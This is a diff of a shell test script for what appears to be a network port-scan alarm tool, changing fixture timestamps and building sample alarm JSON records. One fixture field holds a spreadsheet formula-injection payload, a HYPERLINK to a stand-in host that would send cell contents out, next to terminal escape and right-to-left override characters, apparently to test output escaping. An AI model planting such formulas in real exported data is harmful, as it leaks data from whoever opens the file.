@@ -4,19 +4,19 @@
 . "${0%/*}/../looks.sh"
 need sqlite3
 
-look look a1 2026-11-22T10:00:00.000Z 22,6379 complete \
+look look a1 2024-11-22T10:00:00.000Z 22,6379 complete \
 	198.18.0.1:22:open 198.18.0.9:6379:open 198.18.0.9:22:closed
 evil='=HYPERLINK(\"http://198.18.0.66/?\"&A1,\"a, b\")'
 {
 	cat look
-	printf '{"network":"lab","ts":"2026-11-22T10:00:01.000Z",'
+	printf '{"network":"lab","ts":"2024-11-22T10:00:01.000Z",'
 	printf '"type":"alarm.start","v":1}\n'
 	printf '{"code":"E02","condition":"true","episode":1,"event":"opened",'
 	printf '"id":"ab-1","ip":"198.18.0.9","key":"ab","network":"lab",'
 	printf '"port":6379,"proto":"tcp","reason":"%s",' "$evil"
 	printf '"rule":"risky-port","severity":"high","state":"open",'
 	printf '"summary":"a\\nb \\u001b[31m \\u202e","ts":'
-	printf '"2026-11-22T10:00:01.000Z","type":"alarm","v":1,'
+	printf '"2024-11-22T10:00:01.000Z","type":"alarm","v":1,'
 	printf '"vantage":"inside"}\n'
 } >in
 frame in alarm 1 ',"status":"opened"'
